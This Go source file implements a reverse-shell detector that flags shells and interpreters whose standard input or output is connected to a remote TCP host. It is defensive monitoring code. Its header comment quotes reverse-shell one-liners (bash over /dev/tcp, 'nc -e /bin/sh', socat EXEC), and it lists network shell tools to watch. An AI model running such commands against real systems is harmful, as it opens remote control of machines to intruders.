package detect

import (
	"fmt"
	"slices"
	"strings"
	"time"
)

// reverseShell: a shell or interpreter whose stdin or stdout is a TCP connection to a
// remote host (`bash -i >& /dev/tcp/HOST/PORT 0>&1`, `nc -e /bin/sh`, socat's
// EXEC:sh,nofork), found from /proc: no capture needed.
type reverseShell struct {
	Programs []string // comm names; a trailing version ("python3.11") is ignored
	Loopback bool     // also when the remote end is a loopback address
}

var shellPrograms = []string{"sh", "bash", "dash", "zsh", "ksh", "mksh", "csh", "tcsh", "fish", "ash", "busybox",
	"python", "perl", "ruby", "php", "lua", "node", "tclsh", "nc", "ncat", "netcat", "socat", "telnet", "awk", "gawk"}

func newReverseShell() *reverseShell {
	return &reverseShell{Programs: slices.Clone(shellPrograms)}
}

func (d *reverseShell) clone() Detector {
	return &reverseShell{Programs: slices.Clone(d.Programs), Loopback: d.Loopback}
}

func (d *reverseShell) params() []param {
	return []param{
		{key: "programs", doc: "shells and interpreters watched (comm names; trailing version digits ignored)", ptr: &d.Programs},
		{key: "loopback", doc: "also alert when the remote end is on loopback", ptr: &d.Loopback},
	}
}

// program strips a version suffix from a comm: "python3.11" -> "python", "perl5.36" -> "perl".
func program(comm string) string {
	return strings.TrimRight(comm, "0123456789.")
}

func (d *reverseShell) Check(v *View, now time.Time, emit func(Finding)) {
	for _, c := range v.Stdio {
		if !slices.Contains(d.Programs, c.Comm) && !slices.Contains(d.Programs, program(c.Comm)) {
			continue
		}
		if c.Remote.Addr().IsLoopback() && !d.Loopback {
			continue
		}
		emit(Finding{Key: fmt.Sprintf("%d/%s", c.PID, c.Remote), Firing: true, Src: c.Local.Addr(), Dst: c.Remote.Addr(),
			Summary: fmt.Sprintf("%s (pid %d, user %s) has its stdin or stdout connected to %s", c.Comm, c.PID, c.User, c.Remote),
			Evidence: map[string]any{"pid": c.PID, "comm": c.Comm, "cmdline": c.Cmdline, "user": c.User,
				"local": c.Local.String(), "remote": c.Remote.String()}})
	}
}
